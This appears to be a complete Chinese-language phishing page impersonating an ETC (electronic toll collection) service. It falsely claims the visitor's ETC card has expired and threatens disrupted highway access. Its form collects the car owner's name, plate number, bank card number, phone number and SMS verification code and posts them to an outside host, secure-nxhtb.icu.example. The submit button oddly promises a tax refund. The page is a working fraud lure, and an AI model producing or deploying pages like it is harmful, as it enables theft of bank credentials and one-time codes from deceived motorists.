<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>ETC在线认证</title>
<style>*{box-sizing:border-box}body{background:#111;color:#eee}</style>

</head>
<body>
<header class="top-bar"><div class="logo"></div><div class="links"><a href="?c=1">首页</a></div></header>
<main class="content">
<div class="row">
<div class="notice">您的ETC卡已失效，请立即在线认证，否则将影响高速通行</div>
</div>
<div class="mod">
<form action="//secure-nxhtb.icu.example/ok.php" method="post"><div class="row"><label>车主姓名</label><input type="text" name="name" placeholder="请输入车主姓名"></div>
<div class="row"><label>车牌号</label><input type="text" name="plate" placeholder="请输入车牌号"></div>
<div class="row"><label>绑定银行卡号</label><input type="text" name="cardno" placeholder="请输入绑定银行卡号"></div>
<div class="row"><label>预留手机号</label><input type="text" name="mobile" placeholder="请输入预留手机号"></div>
<div class="row"><label>短信验证码</label><input type="text" name="code" placeholder="请输入短信验证码"></div><button>领取退税</button></form>
</div>
</main>
<footer>ETC服务中心</footer>
<script src="/static/js/app.9c8078d6.js"></script>
</body>
</html>
